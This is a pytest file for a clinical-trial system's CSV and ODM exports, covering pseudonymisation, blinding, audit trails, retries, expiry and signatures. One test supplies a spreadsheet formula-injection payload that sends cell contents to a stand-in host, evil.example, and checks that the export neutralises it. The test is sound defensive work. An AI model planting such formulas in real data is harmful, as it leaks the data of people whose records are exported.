"""Exports as a data manager or lead investigator sees them: the files, what is left out,
the audit trail in ODM, and the job's life (idempotent runs, retries, expiry)."""

from __future__ import annotations

import datetime
from pathlib import Path

import pytest
from django.core.exceptions import PermissionDenied
from lxml import etree

from audit.models import AccessLog
from exports import csv_bundle, services
from exports.datasets import DATASETS
from exports.models import ExportJob
from exports.tasks import expire_exports, run_export
from patients.models import Patient, Visit
from patients.services import patient_update
from patients.services.safety import adverse_event_record
from patients.services.visits import patient_local_today
from sites.models import Membership
from sites.roles import Role

from .helpers_exports import ODM_NS, bundle_text, export_file, odm_schema, read_bundle, read_odm

IDENTITIES = ("张伟", "Kim Min-jun", "11010519491231002X", "M12345678", "13900001111", "1965-04-02")


# --- CSV bundle ---------------------------------------------------------------------------


def test_csv_bundle_has_every_dataset_and_a_dictionary_of_its_columns(
    clinical, trial, lead_investigator, patient_a, patient_b, export_now
):
    job = export_now(trial, lead_investigator, "csv")
    assert job.status == ExportJob.Status.DONE
    assert job.progress == 100 and job.rows_done == job.rows_total > 0
    files = read_bundle(job)
    expected = {f"{ds.name}.csv" for ds in DATASETS} | {"data_dictionary.csv", "README.txt"}
    assert set(files) == expected

    assert [r["subject_id"] for r in files["patients.csv"]] == [
        patient_a.subject_id,
        patient_b.subject_id,
    ]
    assert files["patients.csv"][0]["site"] == "SA"
    assert files["patients.csv"][0]["birth_year"] == "1965"
    assert len(files["visits.csv"]) == Visit.objects.count()
    d0 = next(
        r for r in files["visits.csv"] if r["visit_code"] == "D0" and r["status"] == "completed"
    )
    assert d0["subject_id"] == patient_a.subject_id and d0["ecog"] == "1"
    assert d0["submitted_at"].endswith("Z")  # times in UTC
    assert [r["arm"] for r in files["enrollments.csv"]] == ["A", "B"]  # open-label trial
    causality = files["adverse_event_causality.csv"]
    assert {r["intervention"] for r in causality} == {"Cryoablation", "Lenvatinib", "Toripalimab"}
    assert files["lesions.csv"][0]["baseline_mm"] == "32.0"

    dictionary = files["data_dictionary.csv"]
    for ds in DATASETS:
        header = list(files[f"{ds.name}.csv"][0]) if files[f"{ds.name}.csv"] else None
        documented = [r["column"] for r in dictionary if r["dataset"] == ds.name]
        if header is not None:
            assert documented == header, ds.name
    status = next(r for r in dictionary if r["dataset"] == "patients" and r["column"] == "status")
    assert status["type"] == "text" and "on_study = On study" in status["allowed_values"]
    onset = next(r for r in dictionary if r["column"] == "onset_date")
    assert onset["type"] == "date" and onset["allowed_values"] == "YYYY-MM-DD"

    readme = files["README.txt"]
    assert "Trial: CRYO" in readme and "Requested by: lead" in readme
    assert "Data cut-off (UTC): " + job.started_at.strftime("%Y-%m-%d %H:%M") in readme
    assert "pseudonymised" in readme


def test_lead_investigator_gets_a_pseudonymised_export_by_default(
    clinical, trial, lead_investigator, export_now
):
    csv_job = export_now(trial, lead_investigator, "csv")
    odm_job = export_now(trial, lead_investigator, "odm")
    assert csv_job.pseudonymised and odm_job.pseudonymised
    text = bundle_text(csv_job) + read_odm(odm_job).decode()
    for value in IDENTITIES:
        assert value not in text, value
    header = list(read_bundle(csv_job)["patients.csv"][0])
    assert not {"full_name", "phone", "email", "id_document_number", "birth_date"} & set(header)


def test_identities_only_for_a_user_who_may_see_them_at_every_site(
    clinical, trial, trial_site_a, lead_investigator, export_now
):
    # the lead investigator is also coordinator at site A: identities at one site only
    Membership.objects.create(
        user=lead_investigator, role=Role.COORDINATOR, trial=trial, trial_site=trial_site_a
    )
    lead_investigator = type(lead_investigator).objects.get(pk=lead_investigator.pk)
    job = export_now(trial, lead_investigator, "csv")
    assert job.pseudonymised
    assert "张伟" not in bundle_text(job)

    # a lead investigator who also monitors the trial sees identities at every site
    Membership.objects.create(user=lead_investigator, role=Role.MONITOR, trial=trial)
    lead_investigator = type(lead_investigator).objects.get(pk=lead_investigator.pk)
    job = export_now(trial, lead_investigator, "csv")
    assert not job.pseudonymised
    patients = read_bundle(job)["patients.csv"]
    assert [p["full_name"] for p in patients] == ["张伟", "Kim Min-jun"]
    assert patients[1]["id_document_number"] == "M12345678"
    assert patients[0]["phone"] == "13900001111"
    assert "INCLUDED" in read_bundle(job)["README.txt"]
    odm_job = export_now(trial, lead_investigator, "odm")
    assert 'Value="张伟"' in read_odm(odm_job).decode()


def test_blinded_trial_hides_the_arm_from_a_data_manager(
    clinical, trial, data_manager, lead_investigator, export_now
):
    trial.blinding = trial.Blinding.BLINDED
    trial.save()
    job = export_now(trial, data_manager, "csv")
    assert job.arm_hidden
    files = read_bundle(job)
    assert "arm" not in files["enrollments.csv"][0]
    labels = [r["intervention"] for r in files["adverse_event_causality.csv"]]
    assert labels == ["Study treatment 1", "Study treatment 2", "Study treatment 3"]
    text = bundle_text(job)
    assert "Lenvatinib" not in text and "Arm A name" not in text
    odm = read_odm(export_now(trial, data_manager, "odm")).decode()
    assert "IT.ENR.ARM" not in odm and "Toripalimab" not in odm
    # the lead investigator may see the allocation
    assert not export_now(trial, lead_investigator, "csv").arm_hidden


# --- ODM --------------------------------------------------------------------------------


def _subject(doc: etree._Element, subject_id: str) -> etree._Element:
    (subject,) = doc.xpath(f'//odm:SubjectData[@SubjectKey="{subject_id}"]', namespaces=ODM_NS)
    return subject


def test_odm_validates_and_carries_the_audit_trail_of_an_edited_value(
    clinical, trial, patient_a, coordinator_site_a, data_manager, export_now
):
    patient_update(
        patient=patient_a,
        acting_user=coordinator_site_a,
        reason="Insurer confirmed cover in writing",
        insurance_covers_trial="yes",
    )
    edit = patient_a.history.order_by("-history_date", "-history_id").first()
    job = export_now(trial, data_manager, "odm")
    doc = etree.fromstring(read_odm(job))
    schema = odm_schema()
    assert schema.validate(doc), schema.error_log
    assert doc.get("FileType") == "Transactional" and doc.get("ODMVersion") == "1.3.2"

    items = _subject(doc, patient_a.subject_id).xpath(
        './/odm:ItemData[@ItemOID="IT.DM.INSURANCE_COVERS_TRIAL"]', namespaces=ODM_NS
    )
    assert [(i.get("TransactionType"), i.get("Value")) for i in items] == [
        ("Insert", "unknown"),
        ("Update", "yes"),
    ]
    audit = items[1].find("odm:AuditRecord", ODM_NS)
    user_oid = audit.find("odm:UserRef", ODM_NS).get("UserOID")
    (user,) = doc.xpath(f'//odm:AdminData/odm:User[@OID="{user_oid}"]', namespaces=ODM_NS)
    assert user.findtext("odm:LoginName", namespaces=ODM_NS) == "crc_a"
    assert audit.find("odm:LocationRef", ODM_NS).get("LocationOID") == "LOC.SA"
    stamp = audit.findtext("odm:DateTimeStamp", namespaces=ODM_NS)
    assert stamp.endswith("Z")
    when = datetime.datetime.fromisoformat(stamp.replace("Z", "+00:00"))
    assert abs(when - edit.history_date) < datetime.timedelta(milliseconds=1)
    assert audit.findtext("odm:ReasonForChange", namespaces=ODM_NS) == (
        "Insurer confirmed cover in writing"
    )
    first = items[0].find("odm:AuditRecord", ODM_NS)
    assert first.findtext("odm:ReasonForChange", namespaces=ODM_NS) == "Registration"

    # structure: the visit's form sits in the visit's event, the scan in the same event
    d0 = _subject(doc, patient_a.subject_id).xpath(
        './/odm:StudyEventData[@StudyEventOID="SE.V.D0"]', namespaces=ODM_NS
    )[0]
    forms = [f.get("FormOID") for f in d0.findall("odm:FormData", ODM_NS)]
    assert forms == ["F.VISIT", "F.TA"]
    locations = doc.xpath("//odm:AdminData/odm:Location/@OID", namespaces=ODM_NS)
    assert locations == ["LOC.SA", "LOC.SB"]


def test_odm_export_of_the_demo_trial_validates(db, django_capture_on_commit_callbacks):
    from django.contrib.auth import get_user_model

    from demo.builder import DemoBuilder

    result = DemoBuilder(sites=2, patients_per_site=2).build()
    trial = result["trial"]
    users = get_user_model().objects
    patient = Patient.objects.filter(trial_site__trial=trial).order_by("pk").first()
    patient_update(
        patient=patient,
        acting_user=users.get(username="crc_sh01"),
        reason="Language corrected after interview",
        preferred_language="en",
    )
    with django_capture_on_commit_callbacks(execute=True):
        job = services.export_request(
            trial=trial, acting_user=users.get(username="lead"), kind="odm"
        )
    job.refresh_from_db()
    doc = etree.fromstring(read_odm(job))
    schema = odm_schema()
    assert schema.validate(doc), schema.error_log
    assert len(doc.xpath("//odm:SubjectData", namespaces=ODM_NS)) == 4
    updates = _subject(doc, patient.subject_id).xpath(
        './/odm:ItemData[@ItemOID="IT.DM.PREFERRED_LANGUAGE"][@TransactionType="Update"]',
        namespaces=ODM_NS,
    )
    assert updates[0].get("Value") == "en"
    assert updates[0].findtext(".//odm:ReasonForChange", namespaces=ODM_NS) == (
        "Language corrected after interview"
    )


# --- the job's life ---------------------------------------------------------------------


def _files(media: Path) -> list[Path]:
    return sorted(p for p in (media / "exports").rglob("*") if p.is_file())


def test_running_the_task_twice_writes_one_file(
    clinical, trial, lead_investigator, export_now, media
):
    job = export_now(trial, lead_investigator, "csv")  # the task ran once
    first = (job.file_path, job.sha256, job.finished_at)
    assert run_export.apply(args=[job.pk]).get() == "done"
    job.refresh_from_db()
    assert (job.file_path, job.sha256, job.finished_at) == first
    assert job.attempts == 1
    assert _files(media) == [export_file(job)]

    # a worker died mid-export: the redelivered task finds the job running and runs it
    ExportJob.objects.filter(pk=job.pk).update(status=ExportJob.Status.RUNNING)
    assert run_export.apply(args=[job.pk]).get() == "done"
    job.refresh_from_db()
    assert job.attempts == 2
    assert _files(media) == [export_file(job)]


def test_a_passing_error_is_retried_and_leaves_no_partial_file(
    clinical, trial, lead_investigator, export_now, media, monkeypatch
):
    calls = {"n": 0}
    real = csv_bundle.write_csv_bundle

    def flaky(path, ctx, progress):
        calls["n"] += 1
        if calls["n"] == 1:
            Path(path).write_bytes(b"half a file")
            raise OSError("disk hiccup")
        return real(path, ctx, progress)

    monkeypatch.setattr(csv_bundle, "write_csv_bundle", flaky)
    job = export_now(trial, lead_investigator, "csv")
    assert job.status == ExportJob.Status.DONE and job.attempts == 2 and job.error == ""
    assert _files(media) == [export_file(job)]


def test_retries_are_bounded_and_the_failure_is_shown(
    clinical, trial, lead_investigator, media, monkeypatch
):
    def broken(path, ctx, progress):
        raise OSError("disk full")

    monkeypatch.setattr(csv_bundle, "write_csv_bundle", broken)
    job = ExportJob.objects.create(
        trial=trial, requested_by=lead_investigator, requested_by_username="lead", kind="csv"
    )
    with pytest.raises(OSError, match="disk full"):
        run_export.apply(args=[job.pk])
    job.refresh_from_db()
    assert job.status == ExportJob.Status.FAILED
    assert job.attempts == 4  # the first run and three retries
    assert job.error == "disk full"
    assert _files(media) == []


def test_progress_is_reported_while_writing(clinical, trial, lead_investigator, monkeypatch):
    seen = []
    real = services._progress_writer

    def spy(job_id, *, separate):
        ctx = real(job_id, separate=separate)

        class Wrapped:
            def __enter__(self):
                report = ctx.__enter__()

                def recording(done, total):
                    report(done, total)
                    seen.append(
                        ExportJob.objects.values_list("rows_done", "rows_total", "progress").get(
                            pk=job_id
                        )
                    )

                return recording

            def __exit__(self, *exc):
                return ctx.__exit__(*exc)

        return Wrapped()

    monkeypatch.setattr(services, "_progress_writer", spy)
    job = ExportJob.objects.create(
        trial=trial, requested_by=lead_investigator, requested_by_username="lead", kind="csv"
    )
    job = services.export_run(job_id=job.pk, progress_every=5)
    total = job.rows_total
    assert seen[0] == (0, total, 0)
    assert len(seen) >= 3
    dones = [s[0] for s in seen]
    assert dones == sorted(dones) and 0 < dones[-1] < total + 1
    assert all(0 <= s[2] < 100 for s in seen)
    assert job.progress == 100


def test_expired_exports_are_deleted_and_refuse_download(
    clinical, trial, lead_investigator, export_now, media, client
):
    job = export_now(trial, lead_investigator, "csv")
    path = export_file(job)
    assert path.is_file()
    # past its expiry but before the hourly sweep: already refused
    ExportJob.objects.filter(pk=job.pk).update(
        expires_at=job.expires_at - datetime.timedelta(days=10)
    )
    job.refresh_from_db()
    with pytest.raises(services.ExportUnavailable) as exc:
        services.export_download(job=job, user=lead_investigator)
    assert exc.value.gone
    assert expire_exports.apply().get()["expired"] == 1
    job.refresh_from_db()
    assert job.status == ExportJob.Status.EXPIRED
    assert not path.exists()
    client.force_login(lead_investigator)
    response = client.get(f"/exports/{job.pk}/download/")
    assert response.status_code == 410
    assert "expired" in response.content.decode()
    assert not AccessLog.objects.filter(event=AccessLog.Event.DOWNLOAD).exists()


def test_not_ready_exports_refuse_download(trial, trial_site_a, lead_investigator):
    job = ExportJob.objects.create(
        trial=trial, requested_by=lead_investigator, requested_by_username="lead", kind="csv"
    )
    with pytest.raises(services.ExportUnavailable) as exc:
        services.export_download(job=job, user=lead_investigator)
    assert not exc.value.gone


def test_a_queued_job_whose_task_was_lost_is_queued_again(clinical, trial, lead_investigator):
    job = ExportJob.objects.create(
        trial=trial, requested_by=lead_investigator, requested_by_username="lead", kind="odm"
    )
    ExportJob.objects.filter(pk=job.pk).update(
        created_at=job.created_at - datetime.timedelta(hours=1)
    )
    assert expire_exports.apply().get() == {"expired": 0, "requeued": 1}
    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE


def test_every_export_is_logged_with_who_and_when(clinical, trial, lead_investigator, export_now):
    job = export_now(trial, lead_investigator, "odm")
    (entry,) = AccessLog.objects.filter(event=AccessLog.Event.EXPORT)
    assert entry.user == lead_investigator and entry.username == "lead"
    assert entry.object_type == "exports.exportjob" and entry.object_id == str(job.pk)
    assert entry.at <= job.created_at + datetime.timedelta(seconds=5)
    services.export_download(job=job, user=lead_investigator)
    (download,) = AccessLog.objects.filter(event=AccessLog.Event.DOWNLOAD)
    assert download.username == "lead" and download.object_id == str(job.pk)


def test_coordinator_may_not_export_and_nothing_is_written(
    clinical, trial, coordinator_site_a, media, django_capture_on_commit_callbacks
):
    with pytest.raises(PermissionDenied), django_capture_on_commit_callbacks(execute=True):
        services.export_request(trial=trial, acting_user=coordinator_site_a, kind="csv")
    assert not ExportJob.objects.exists()
    assert not AccessLog.objects.filter(event=AccessLog.Event.EXPORT).exists()
    assert not (media / "exports").exists()


def test_csv_bundle_neutralises_formulas(
    trial, clinical, patient_a, coordinator_site_a, lead_investigator, export_now
):
    """A coordinator's adverse-event term ``=HYPERLINK(...)`` reaches the sponsor's
    spreadsheet as text; numbers (a lesion's 32.0 mm) stay numbers."""
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"details")'
    adverse_event_record(
        patient=patient_a,
        acting_user=coordinator_site_a,
        term=payload,
        grade=1,
        serious=False,
        serious_criteria=[],
        onset_date=patient_local_today(patient_a) - datetime.timedelta(days=2),
        resolution_date=None,
        outcome="not_recovered",
        action_taken="none",
        causality=dict.fromkeys(
            {c.intervention_id for c in clinical["ae"].causality.all()}, "unlikely"
        ),
    )
    files = read_bundle(export_now(trial, lead_investigator, "csv"))
    terms = sorted(r["term"] for r in files["adverse_events.csv"])
    assert terms == ["'" + payload, "Hypertension"]
    assert files["lesions.csv"][0]["baseline_mm"] == "32.0"


def test_odm_carries_casebook_signatures(
    clinical, trial, patient_a, investigator_site_a, data_manager, export_now
):
    from monitoring.services import signature_sign

    investigator_site_a.set_password("sign-Here-2026")
    investigator_site_a.save()
    signature = signature_sign(
        record=patient_a,
        level="casebook",
        meaning="approved",
        username_entered=investigator_site_a.username,
        password="sign-Here-2026",
        acting_user=investigator_site_a,
    )
    doc = etree.fromstring(read_odm(export_now(trial, data_manager, "odm")))
    schema = odm_schema()
    assert schema.validate(doc), schema.error_log
    defs = doc.xpath("//odm:AdminData/odm:SignatureDef/@OID", namespaces=ODM_NS)
    assert "SD.APPROVED" in defs
    sig = _subject(doc, patient_a.subject_id).find("odm:Signature", ODM_NS)
    assert sig.find("odm:SignatureRef", ODM_NS).get("SignatureOID") == "SD.APPROVED"
    user_oid = sig.find("odm:UserRef", ODM_NS).get("UserOID")
    (user,) = doc.xpath(f'//odm:AdminData/odm:User[@OID="{user_oid}"]', namespaces=ODM_NS)
    assert user.findtext("odm:LoginName", namespaces=ODM_NS) == investigator_site_a.username
    stamp = sig.findtext("odm:DateTimeStamp", namespaces=ODM_NS)
    assert stamp == signature.signed_at.strftime("%Y-%m-%dT%H:%M:%SZ")


def test_odm_carries_record_signatures_on_their_form_and_item_group(
    clinical, trial, patient_a, investigator_site_a, data_manager, export_now
):
    """A signed visit carries its Signature on the visit's FormData, a signed causality
    assessment on its ItemGroupData; an invalidated one is not exported as valid."""
    from monitoring.services import signature_sign

    investigator_site_a.set_password("sign-Here-2026")
    investigator_site_a.save()
    d0 = clinical["visit"]
    causality = clinical["ae"].causality.order_by("pk").first()
    for record, meaning in ((d0, "approved"), (causality, "causality")):
        signature_sign(
            record=record,
            level="record",
            meaning=meaning,
            username_entered=investigator_site_a.username,
            password="sign-Here-2026",
            acting_user=investigator_site_a,
        )
    doc = etree.fromstring(read_odm(export_now(trial, data_manager, "odm")))
    schema = odm_schema()
    assert schema.validate(doc), schema.error_log
    subject = _subject(doc, patient_a.subject_id)
    assert subject.find("odm:Signature", ODM_NS) is None  # no casebook signature
    (visit_form,) = subject.xpath(
        "odm:StudyEventData[@StudyEventOID='SE.V.D0']/odm:FormData[@FormOID='F.VISIT']",
        namespaces=ODM_NS,
    )
    ref = visit_form.find("odm:Signature/odm:SignatureRef", ODM_NS)
    assert ref.get("SignatureOID") == "SD.APPROVED"
    (group,) = subject.xpath(
        f".//odm:ItemGroupData[@ItemGroupOID='IG.AECAUS'][@ItemGroupRepeatKey='{causality.pk}']",
        namespaces=ODM_NS,
    )
    ref = group.find("odm:Signature/odm:SignatureRef", ODM_NS)
    assert ref.get("SignatureOID") == "SD.CAUSALITY"
    defs = doc.xpath("//odm:AdminData/odm:SignatureDef/@OID", namespaces=ODM_NS)
    assert {"SD.APPROVED", "SD.CAUSALITY"} <= set(defs)
